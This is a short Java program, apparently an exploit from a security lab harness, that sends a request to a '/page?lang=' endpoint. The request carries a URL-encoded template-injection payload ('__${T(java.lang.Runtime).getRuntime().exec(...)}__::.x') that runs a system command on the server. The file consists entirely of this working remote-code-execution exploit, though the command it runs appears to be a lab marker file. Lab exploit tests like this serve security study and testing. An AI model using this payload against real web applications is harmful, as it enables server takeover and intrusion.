import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.get(
        "/page?lang="
            + Attacker.encode(
                "__${T(java.lang.Runtime).getRuntime().exec('" + Attacker.touch() + "')}__::.x"));
    Attacker.done();
  }
}
